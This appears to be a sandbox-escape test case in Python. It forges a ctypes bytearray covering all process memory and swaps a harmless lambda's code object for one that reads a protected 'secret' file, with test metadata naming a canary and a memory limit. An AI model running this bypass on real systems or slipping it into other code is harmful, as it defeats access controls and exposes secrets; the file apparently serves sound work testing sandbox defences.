"""Make an object by hand that covers all of memory, and put other bytecode into a harmless function with it.

canary: secret
control: through
limits: memory_mb=512
"""
import ctypes
import os

secret = TARGETS["secret"]


class Fake(ctypes.Structure):
    """The beginning of a bytearray that covers all memory."""

    _fields_ = [(name, ctypes.c_ssize_t) for name in ("count", "kind", "size", "room", "buffer", "start", "exports")]


def everything() -> bytearray:
    fake = Fake(1000, id(bytearray), (1 << 62), (1 << 62), 0, 0, 0)
    slot = ctypes.py_object.from_buffer(ctypes.c_void_p(ctypes.addressof(fake)))
    everything.kept = fake
    return slot.value


memory = everything()
target = lambda path: None
opener = lambda path: os.read(os.open(path, os.O_RDONLY), 100)
for place in range(id(target) + 16, id(target) + 128, 8):
    if memory[place : place + 8] == id(target.__code__).to_bytes(8, "little"):
        memory[place : place + 8] = id(opener.__code__).to_bytes(8, "little")
try:
    print(target(secret))
except OSError as error:
    print(error)
